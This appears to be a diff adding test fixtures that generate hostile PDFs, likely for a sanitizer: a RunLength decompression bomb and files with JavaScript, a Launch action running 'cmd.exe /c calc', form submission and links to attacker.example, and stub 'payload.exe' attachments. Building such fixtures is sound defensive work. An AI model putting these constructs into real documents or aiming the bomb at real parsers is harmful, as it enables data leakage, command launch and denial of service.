@@ -161,3 +161,80 @@ def bomb_jpeg(width: int = 60_000, height: int = 60_000) -> bytes:
     sof = data.index(b"\xff\xc0")
     data[sof + 5: sof + 9] = struct.pack(">HH", height, width)
     return bytes(data)
+
+
+def run_length_bomb_pdf(inflated_mib: int = 384) -> bytes:
+    """A one-page PDF whose content stream is RunLength-encoded zeros (128 bytes per 2):
+    qpdf decodes it whole, so only the parse's memory limit stops it."""
+    data = b"\x81\x00" * (inflated_mib << 13) + b"\x80"
+    return _raw_pdf([
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
+        b"<< /Length %d /Filter /RunLengthDecode >>\nstream\n" % len(data) + data + b"\nendstream",
+    ])
+
+
+def _action(kind: str, pdf: pikepdf.Pdf) -> pikepdf.Dictionary:
+    D, N, S = pikepdf.Dictionary, pikepdf.Name, pikepdf.String
+    return {
+        "JavaScript": lambda: D(S=N.JavaScript, JS=S("app.alert('x')")),
+        "Launch": lambda: D(S=N.Launch, F=S("cmd.exe"), Win=D(F=S("cmd.exe"), P=S("/c calc"))),
+        "GoToR": lambda: D(S=N.GoToR, F=D(Type=N.Filespec, F=S("\\\\attacker.example\\share\\x.pdf")),
+                           D=pikepdf.Array([0, N.Fit])),
+        "GoToE": lambda: D(S=N.GoToE, NewWindow=True, T=D(R=N.C, N=S("payload"))),
+        "URI": lambda: D(S=N.URI, URI=S("http://attacker.example/track")),
+        "SubmitForm": lambda: D(S=N.SubmitForm, F=D(FS=N.URL, F=S("http://attacker.example/submit"))),
+        "ImportData": lambda: D(S=N.ImportData, F=S("data.fdf")),
+        "RichMediaExecute": lambda: D(S=N.RichMediaExecute, TA=D(), TI=D()),
+        "Rendition": lambda: D(S=N.Rendition, OP=0),
+        "Sound": lambda: D(S=N.Sound, Sound=pdf.make_stream(b"\x00" * 16)),
+        "Movie": lambda: D(S=N.Movie, T=S("clip")),
+    }[kind]()
+
+
+def _link(pdf: pikepdf.Pdf, key: str, action: pikepdf.Dictionary) -> None:
+    """A link annotation on page 1 carrying `action` under /A, or under /AA (mouse up)."""
+    annot = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
+                               Rect=pikepdf.Array([50, 50, 200, 80]))
+    annot[key] = action if key == "/A" else pikepdf.Dictionary(U=action)
+    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(annot)]))
+
+
+def active_content_pdf(where: str, kind: str = "") -> bytes:
+    """A blank one-page PDF carrying active content: `where` is how it hangs in the file
+    ('OpenAction', 'annot-A', 'annot-AA', 'page-AA', 'names-JavaScript', 'EmbeddedFiles',
+    'FileAttachment', 'RichMedia', 'XFA', 'OpenAction-chain'), `kind` the action's /S."""
+    pdf = pikepdf.new()
+    pdf.add_blank_page(page_size=(595, 842))
+    D, N = pikepdf.Dictionary, pikepdf.Name
+    if where == "OpenAction":
+        pdf.Root.OpenAction = pdf.make_indirect(_action(kind, pdf))
+    elif where == "OpenAction-chain":  # a harmless go-to whose /Next runs the action
+        goto = D(S=N.GoTo, D=pikepdf.Array([pdf.pages[0].obj, N.Fit]), Next=_action(kind, pdf))
+        pdf.Root.OpenAction = pdf.make_indirect(goto)
+    elif where in ("annot-A", "annot-AA"):
+        _link(pdf, "/A" if where == "annot-A" else "/AA", _action(kind, pdf))
+    elif where == "page-AA":
+        pdf.pages[0].obj.AA = D(O=_action(kind, pdf))
+    elif where == "names-JavaScript":
+        js = pdf.make_indirect(_action("JavaScript", pdf))
+        pdf.Root.Names = D(JavaScript=D(Names=pikepdf.Array([pikepdf.String("init"), js])))
+    elif where == "EmbeddedFiles":
+        pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", mime_type="application/octet-stream")
+    elif where == "FileAttachment":
+        spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", filename="payload.exe")
+        annot = D(Type=N.Annot, Subtype=N.FileAttachment, Rect=pikepdf.Array([50, 50, 70, 70]), FS=spec.obj)
+        pdf.pages[0].obj.Annots = pikepdf.Array([pdf.make_indirect(annot)])
+    elif where == "RichMedia":
+        content = D(Assets=D(Names=pikepdf.Array([])), Configurations=pikepdf.Array([]))
+        annot = D(Type=N.Annot, Subtype=N.RichMedia, Rect=pikepdf.Array([50, 50, 300, 300]),
+                  RichMediaContent=content)
+        pdf.pages[0].obj.Annots = pikepdf.Array([pdf.make_indirect(annot)])
+    elif where == "XFA":
+        pdf.Root.AcroForm = D(Fields=pikepdf.Array([]), XFA=pdf.make_stream(b"<xdp:xdp/>"))
+    else:
+        raise ValueError(where)
+    out = io.BytesIO()
+    pdf.save(out)
+    return out.getvalue()
